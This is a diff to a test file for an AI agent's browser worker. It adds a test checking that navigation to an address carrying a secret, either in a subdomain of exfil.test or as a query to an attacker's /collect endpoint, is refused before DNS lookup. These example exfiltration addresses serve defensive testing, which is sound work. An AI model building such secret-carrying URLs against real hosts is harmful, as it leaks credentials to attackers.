@@ -23,6 +23,8 @@ const WORKER_SECRET = randomBytes(24).toString("hex");
 
 let site: TBrowserSite;
 let attacker: TBrowserSite;
+/** Every name the worker looked up: what the DNS servers of those names would have seen. */
+const lookups: string[] = [];
 let worker: TBrowserWorker;
 let client: BrowserWorkerClient;
 
@@ -38,6 +40,10 @@ beforeAll(async () => {
     navigationTimeoutMs: 10_000,
     networkIdleMs: 1_000,
     contentPageCharacters: 8_000,
+    lookup: async (host) => {
+      lookups.push(host);
+      throw Object.assign(new Error("not found"), { code: "ENOTFOUND" });
+    },
   });
   client = new BrowserWorkerClient({ url: worker.url, secret: WORKER_SECRET });
 }, 60_000);
@@ -87,6 +93,18 @@ describe("an address that carries the secret", () => {
     const approved = await act(navigate(address, true));
     expect(approved).toMatchObject({ isError: false, text: expect.stringContaining('Opened "Collected"') });
     expect(attacker.collected).toEqual([{ method: "GET", path: "/collect", query: `?secret=${SECRET}`, body: "" }]);
+  });
+
+  it("is refused before the host name is looked up, which the attacker's DNS server would see", async () => {
+    const act = newSession();
+    const address = `http://${SECRET.toLowerCase()}.exfil.test:${attacker.port}/`;
+    expectRefused(await act(navigate(address)), "browser_navigate");
+    await act(navigate(`${site.url}/landing.html`));
+    expectRefused(await act(navigate(address)), "browser_navigate");
+    expect(lookups.filter((host) => host.includes(SECRET.toLowerCase()))).toEqual([]);
+    // Approved, it is looked up (and here, not found).
+    expect((await act(navigate(address, true))).text).toMatch(/could not be resolved/);
+    expect(lookups).toContain(`${SECRET.toLowerCase()}.exfil.test`);
   });
 
   it("opens allowed sites without asking, and any site with browser.egress: allow", async () => {
